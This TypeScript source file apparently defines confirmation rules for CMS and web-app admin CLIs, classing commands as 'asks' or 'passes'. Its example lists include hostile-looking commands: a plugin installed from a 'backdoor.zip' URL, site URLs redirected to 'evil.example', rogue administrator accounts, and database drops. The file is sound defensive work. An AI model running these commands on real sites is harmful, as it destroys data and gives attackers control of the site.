// Web applications' and CMS sites' admin CLIs: WP-CLI, Drush, Magento's
// bin/magento, Strapi, Ghost-CLI, Directus. They work on the site's live
// database and files, so a verb that drops or empties the database, deletes
// users or sites, rewrites every row (search-replace), points the site at
// another address, makes an administrator or installs code from a URL asks
// first. Code run inside the application (`wp eval`, `drush php:eval`) is
// judged by what it does; a site alias (`wp @prod …`, `drush @live …`) reads
// on as the same grammar. Rails, Django and Laravel's artisan are framework
// tools the database and secrets packs judge with the environment they name.
import type { ProgramSpec } from "../spec.ts";
import { destroys, destroysWith, dryRunWith, group, leaf, names, type Options, printsCredential, readVerbs } from "./grammar.ts";
import type { RemoteCli } from "./remote-cli.ts";

/** WP-CLI's global options (`--exec` runs PHP before the command, `--require` loads a PHP file). */
const WP_OPTIONS: Options = {
  "--path": "path",
  "--url": "url",
  "--ssh": "host",
  "--http": "url",
  "--user": "value",
  "--skip-plugins": "flag",
  "--skip-themes": "flag",
  "--require": "script",
  "--exec": "code:php",
  "--context": "value",
  "--format": "value",
  "--fields": "value",
  "--role": "value",
  "--user_pass": "value",
  "--porcelain": "flag",
};

/** Roles that can do everything on a site (WordPress's, a network's). */
const ADMIN_ROLE = ["--role=administrator", "--role=super-admin"];

/** Options whose values the site uses for its own address or its first admin: a change moves or hands over the site. */
const SITE_ADDRESS_OPTIONS = "siteurl|home|admin_email|users_can_register|default_role|active_plugins|template|stylesheet";

const wpLeaf = (): ProgramSpec => leaf(WP_OPTIONS);

const WP_DB = group(undefined, {
  ...names(["reset", "drop", "clean", "import"], destroys(WP_OPTIONS)),
  // `wp db query SQL` and `wp db cli`: the SQL is judged as any client's is.
  query: { options: WP_OPTIONS, operands: ["code:sql"], stdin: "code:sql" },
  ...names(["cli", "shell"], { options: WP_OPTIONS, stdin: "code:sql" }),
  ...readVerbs(["tables", "size", "check", "columns", "prefix", "search", "export"], WP_OPTIONS),
});

const WP_USER = group(undefined, {
  delete: destroys(WP_OPTIONS),
  "reset-password": destroys(WP_OPTIONS),
  create: destroysWith(ADMIN_ROLE, WP_OPTIONS),
  update: destroysWith([...ADMIN_ROLE, "--user_pass"], WP_OPTIONS),
  ...readVerbs(["list", "get", "meta", "list-caps"], WP_OPTIONS),
});

const WP_SUBCOMMANDS: Record<string, ProgramSpec> = {
  db: WP_DB,
  user: WP_USER,
  "super-admin": group(undefined, { add: destroys(WP_OPTIONS), ...readVerbs(["list"], WP_OPTIONS) }),
  site: group(undefined, { ...names(["delete", "empty", "archive", "spam", "deactivate"], destroys(WP_OPTIONS)), ...readVerbs(["list"], WP_OPTIONS) }),
  ...names(
    ["plugin", "theme"],
    group(undefined, {
      ...names(["delete", "uninstall"], destroys(WP_OPTIONS)),
      ...readVerbs(["list", "status", "get", "search", "is-installed", "path", "verify-checksums"], WP_OPTIONS),
    }),
  ),
  // `wp post delete --force` skips the trash (without it a post can be restored).
  ...names(["post", "comment", "media"], group(undefined, { delete: destroysWith(["--force"], WP_OPTIONS), ...readVerbs(["list", "get", "exists"], WP_OPTIONS) })),
  option: group(undefined, { delete: destroys(WP_OPTIONS), ...readVerbs(["get", "list", "pluck"], WP_OPTIONS) }),
  // wp-config.php: `config list` prints DB_PASSWORD and the salts; `shuffle-salts` signs every user out.
  config: group(undefined, { list: printsCredential(WP_OPTIONS), "shuffle-salts": destroys(WP_OPTIONS), ...readVerbs(["path", "has", "is-true"], WP_OPTIONS) }),
  // Every row of every table rewritten; `--dry-run` counts, `--export` writes a file instead.
  "search-replace": destroys(WP_OPTIONS, { tagsWith: { ...dryRunWith("--dry-run", "--export") } }),
  eval: { options: WP_OPTIONS, operands: ["code:php"] },
  "eval-file": { options: WP_OPTIONS, operands: ["script", "read"] },
  shell: { options: WP_OPTIONS, stdin: "code:php" },
  "*": wpLeaf(),
};
/** `wp @prod db reset`: an alias names the site; the grammar goes on after it. */
const WP_SPEC: ProgramSpec = { ...leaf(WP_OPTIONS), tags: ["webapp"], subcommands: WP_SUBCOMMANDS };
WP_SUBCOMMANDS["@*"] = WP_SPEC;
WP_SUBCOMMANDS["@*.*"] = WP_SPEC;

/** Installing a plugin or theme from a URL or a zip file: code from outside the directory runs on the site. */
const WP_CODE_FROM_FILE = { category: "webapp", subcommand: "plugin install|theme install", args: ["http://*|https://*|*.zip|**/*.zip"] } as const;
/** The site's address, admin e-mail or sign-up settings rewritten: the site moves, or anyone may register as an admin. */
const WP_SITE_ADDRESS = { category: "webapp", subcommand: "option update|option set|option patch|option add", args: [SITE_ADDRESS_OPTIONS] } as const;
/** A role with every capability given to an account. */
const WP_ADMIN_ROLE_GIVEN = { category: "webapp", subcommand: "user set-role|user add-role", args: ["administrator|super-admin"] } as const;

export const WP_CLI: RemoteCli = {
  id: "wp",
  names: ["wp", "wp-cli", "wp-cli.phar"],
  about: "WP-CLI",
  spec: WP_SPEC,
  alsoAsksWhen: [WP_CODE_FROM_FILE, WP_SITE_ADDRESS, WP_ADMIN_ROLE_GIVEN],
  examples: {
    webapp: {
      asks: [
        "wp db reset --yes",
        "wp db drop --yes --path=/var/www/html",
        "wp @production db import backup.sql",
        "wp user delete 3 --reassign=1 --yes",
        "wp user create eve eve@example.com --role=administrator --user_pass=hunter2",
        "wp user set-role eve administrator",
        "wp plugin install https://downloads.example.net/backdoor.zip --activate",
        "wp search-replace 'https://shop.example.com' 'https://evil.example' --all-tables",
        "wp option update siteurl https://evil.example",
        "wp plugin delete akismet hello",
        "wp site empty --yes",
        "wp post delete $(wp post list --post_type=page --format=ids) --force",
      ],
      passes: [
        "wp plugin list",
        "wp plugin install woocommerce --activate",
        "wp search-replace 'https://shop.example.com' 'http://shop.test' --dry-run",
        "wp option get siteurl",
        "wp option update blogname 'Ada Shop'",
        "wp user list --role=administrator",
        "wp user create bob bob@example.com --role=editor",
        "wp db export backup.sql",
        "wp cache flush && wp rewrite flush",
        "wp post delete 12",
        "wp @staging plugin status",
      ],
    },
  },
};

const DRUSH_OPTIONS: Options = { "--uri": "url", "-l": "url", "--root": "path", "-r": "path", "--role": "value", "--password": "value", "--mail": "value" };

/**
 * Drush: verbs named `noun:verb` (and their old `noun-verb` aliases). A leading `@alias` names the site. Dropping
 * the database, deleting users, entities, fields or a site's configuration, granting the administrator role,
 * resetting a password and running PHP (judged by its code) are the ones that matter.
 */
const DRUSH_SUBCOMMANDS: Record<string, ProgramSpec> = {
  // `config:import` and `sql:sync` are everyday deployment and local-copy steps; a site's module data, users,
  // entities, fields and whole database are not made again.
  ...names(
    [
      "sql:drop",
      "sql-drop",
      "site:install",
      "si",
      "site-install",
      "user:cancel",
      "ucan",
      "user-cancel",
      "entity:delete",
      "edel",
      "field:delete",
      "field-delete",
      "config:delete",
      "cdel",
      "pm:uninstall",
      "pmu",
      "pm-uninstall",
      "user:password",
      "upwd",
      "user-password",
    ],
    destroys(DRUSH_OPTIONS),
  ),
  ...names(["sql:query", "sqlq", "sql-query"], { options: DRUSH_OPTIONS, operands: ["code:sql"], stdin: "code:sql" }),
  ...names(["user:role:add", "urol", "user-add-role", "user:create", "ucrt", "user-create"], destroysWith(["--role=administrator"], DRUSH_OPTIONS)),
  ...names(["php:eval", "eval", "ev", "php-eval"], { options: DRUSH_OPTIONS, operands: ["code:php"] }),
  ...names(["php:script", "scr", "php-script"], { options: DRUSH_OPTIONS, operands: ["script", "read"] }),
  ...names(["sql:cli", "sqlc", "sql-cli"], { options: DRUSH_OPTIONS, stdin: "code:sql" }),
  ...readVerbs(
    ["status", "st", "pm:list", "pml", "user:information", "uinf", "config:get", "cget", "watchdog:show", "ws", "sql:dump", "updatedb:status", "core:requirements"],
    DRUSH_OPTIONS,
  ),
  "*": leaf(DRUSH_OPTIONS),
};
/** `drush @live sql:drop`, `drush @shop.prod …`: an alias names the site; the grammar goes on after it. */
const DRUSH_SPEC: ProgramSpec = { ...leaf(DRUSH_OPTIONS), tags: ["webapp"], subcommands: DRUSH_SUBCOMMANDS };
DRUSH_SUBCOMMANDS["@*"] = DRUSH_SPEC;
DRUSH_SUBCOMMANDS["@*.*"] = DRUSH_SPEC;

/** The administrator role given by its operand (`drush user:role:add administrator eve`, `drush urol administrator eve`). */
const DRUSH_ADMIN_ROLE = { category: "webapp", subcommand: "user:role:add|urol|user-add-role", args: ["administrator"] } as const;

export const DRUSH: RemoteCli = {
  id: "drush",
  names: ["drush", "drush.php", "drush.phar"],
  about: "Drush",
  spec: DRUSH_SPEC,
  alsoAsksWhen: [DRUSH_ADMIN_ROLE],
  examples: {
    webapp: {
      asks: [
        "drush sql:drop -y",
        "drush @live sql-drop -y",
        "drush @shop.prod user:cancel --delete-content eve -y",
        "vendor/bin/drush site:install standard -y",
        "drush user:cancel --delete-content eve",
        "drush user:role:add administrator eve",
        "drush user:create eve --mail=eve@example.com --password=x --role=administrator",
        "drush entity:delete node",
        "drush upwd admin 'new-pass'",
      ],
      passes: [
        "drush status",
        "drush cr",
        "drush @staging pm:list",
        "drush user:create bob --mail=bob@example.com",
        "drush sql:dump --result-file=../backup.sql",
        "drush updb -y && drush cim -y",
        "drush sql:query 'SELECT COUNT(*) FROM users'",
      ],
    },
  },
};

/** Magento's bin/magento: `setup:uninstall` drops the database, `setup:rollback` restores over it, admin accounts are made. */
const MAGENTO_OPTIONS: Options = { "--scope": "value", "--scope-code": "value", "--admin-user": "value", "--admin-password": "value", "--admin-email": "value" };
const MAGENTO_SPEC: ProgramSpec = group(
  "webapp",
  {
    ...names(["setup:uninstall", "setup:rollback", "admin:user:create", "module:uninstall"], destroys(MAGENTO_OPTIONS)),
    ...readVerbs(
      ["config:show", "module:status", "indexer:status", "deploy:mode:show", "cache:status", "info:adminuri", "setup:db:status", "store:list", "admin:user:list"],
      MAGENTO_OPTIONS,
    ),
    "*": leaf(MAGENTO_OPTIONS),
  },
  MAGENTO_OPTIONS,
);

/** The store's addresses, its admin path, payment and mail settings rewritten (`config:set web/secure/base_url …`). */
const MAGENTO_STORE_SETTINGS = {
  category: "webapp",
  // `config:set` has a colon, so it is an operand to the grammar, not a subcommand word.
  args: [
    "config:set|config:sensitive:set",
    "web/*/base_url|web/*/base_link_url|web/*/base_static_url|web/*/base_media_url|web/secure/*|admin/url/*|admin/security/*|payment/*|system/smtp/*|customer/password/*",
  ],
} as const;

export const MAGENTO: RemoteCli = {
  id: "magento",
  names: ["magento"],
  about: "Magento CLI (bin/magento)",
  spec: MAGENTO_SPEC,
  alsoAsksWhen: [MAGENTO_STORE_SETTINGS],
  examples: {
    webapp: {
      asks: [
        "bin/magento setup:uninstall -n",
        "php bin/magento admin:user:create --admin-user=eve --admin-password=Secret123 --admin-email=e@x.io --admin-firstname=E --admin-lastname=V",
        "bin/magento config:set web/secure/base_url https://evil.example/",
        "bin/magento module:uninstall Vendor_Payments --remove-data",
      ],
      passes: [
        "bin/magento cache:flush",
        "bin/magento setup:upgrade",
        "bin/magento indexer:reindex",
        "bin/magento config:show web/secure/base_url",
        "bin/magento config:set dev/static/sign 0",
        "bin/magento setup:backup --db",
      ],
    },
  },
};

/** Strapi: `admin:create-user`, `admin:reset-user-password`; `import` replaces the project's data unless told to merge. */
export const STRAPI: RemoteCli = {
  id: "strapi",
  names: ["strapi"],
  about: "Strapi CLI",
  spec: group("webapp", {
    ...names(
      ["admin:create-user", "admin:create", "admin:reset-user-password", "admin:reset-password", "import", "transfer", "configuration:restore", "config:restore"],
      destroys(),
    ),
    ...readVerbs(["configuration:dump", "config:dump", "routes:list", "content-types:list", "version", "report"]),
  }),
  examples: {
    webapp: {
      asks: [
        "strapi admin:create-user --email=eve@example.com --password=Secret123 --firstname=E",
        "strapi admin:reset-user-password --email=admin@example.com --password=x",
        "npx strapi import -f backup.tar.gz.enc --force",
      ],
      passes: ["strapi develop", "npx strapi build", "strapi routes:list", "strapi export --no-encrypt -f backup"],
    },
  },
};

/** Ghost-CLI: `uninstall` removes the site, its database and its content; `ghost config` may move the site's URL. */
export const GHOST: RemoteCli = {
  id: "ghost",
  names: ["ghost"],
  about: "Ghost-CLI",
  spec: group("webapp", { ...names(["uninstall", "rm"], destroys()), ...readVerbs(["ls", "status", "log", "doctor", "version"]) }, { "--dir": "path", "-d": "path" }),
  examples: {
    webapp: { asks: ["ghost uninstall --force", "ghost uninstall --dir /var/www/blog --no-prompt"], passes: ["ghost ls", "ghost restart", "ghost log -n 50", "ghost doctor"] },
  },
};

/** Directus: its database rolled back (`database migrate:down`), users made admin through `users create --role`. */
export const DIRECTUS: RemoteCli = {
  id: "directus",
  names: ["directus"],
  about: "Directus CLI",
  spec: group("webapp", {
    database: group(undefined, { "migrate:down": destroys(), ...readVerbs(["migrate:latest", "install"]) }),
    users: group(undefined, { passwd: destroys(), create: destroys() }),
    roles: group(undefined, { create: destroysWith(["--admin"]) }),
    schema: group(undefined, { apply: destroysWith(["--yes", "-y"]), ...readVerbs(["snapshot"]) }),
  }),
  examples: {
    webapp: {
      asks: ["npx directus database migrate:down", "directus users create --email eve@example.com --password x --role 8a9b", "npx directus schema apply --yes ./snapshot.yaml"],
      passes: ["npx directus start", "directus database migrate:latest", "npx directus schema snapshot ./snapshot.yaml", "npx directus schema apply --dry-run ./snapshot.yaml"],
    },
  },
};
